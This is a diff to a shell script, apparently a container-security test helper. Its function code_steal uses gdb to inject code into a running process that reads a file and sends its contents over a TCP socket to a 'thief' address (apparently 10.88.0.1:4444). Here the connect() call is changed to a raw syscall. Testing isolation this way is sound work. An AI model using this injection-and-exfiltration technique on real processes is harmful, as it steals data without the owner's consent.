@@ -68,12 +68,13 @@ code_inside() {
 }
 
 # code_steal CONTAINER PATTERN FILE: code inside a process opens a file and sends its beginning to the thief.
+# 42 is connect: gdb cannot convert the argument of the C library's function.
 code_steal() {
 	# shellcheck disable=SC2016 # variables of gdb
 	code_inside "$1" "$2" 'set $b = (char *) malloc(4096)' \
 		"set \$f = (int) open(\"$3\", 0)" 'set $n = (long) read($f, $b, 4000)' 'call (int) close($f)' \
 		'set *(unsigned long long *) ($b + 4000) = 0x0100580a5c110002' 'set *(long long *) ($b + 4008) = 0' \
-		'set $s = (int) socket(2, 1, 0)' 'call (int) connect($s, $b + 4000, 16)' \
+		'set $s = (int) socket(2, 1, 0)' 'call (long) syscall(42, $s, $b + 4000, 16)' \
 		'call (long) write($s, $b, $n)' 'call (int) close($s)'
 }
 
